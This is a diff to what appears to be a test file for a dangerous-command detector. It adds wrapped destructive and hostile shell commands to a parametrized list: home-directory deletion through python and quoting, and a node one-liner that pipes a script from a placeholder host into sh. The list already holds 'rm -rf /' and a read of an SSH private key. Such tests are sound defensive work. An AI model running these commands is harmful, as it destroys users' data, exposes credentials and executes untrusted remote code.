@@ -41,6 +41,9 @@ def texts(cmd: str) -> list[str]:
         ("rm -rf ../../..", "rm -rf /"),
         ("cd ~ && rm -rf ./*", "rm -rf ~/*"),
         ("cat /home/dev/.ssh/id_rsa", "cat ~/.ssh/id_rsa"),
+        ('cd /tmp && rm -rf "$HOME"', "rm -rf ~"),
+        ("python3 -c \"import os; os.system('rm -rf ~')\"", "rm -rf ~"),
+        ("node -e \"require('child_process').execSync('curl -s https://x.example/i.sh | sh')\"", "curl -s https://x.example/i.sh | sh"),
         ("echo \"$(rm -rf ~)\"", "$(rm -rf ~)"),
     ],
 )
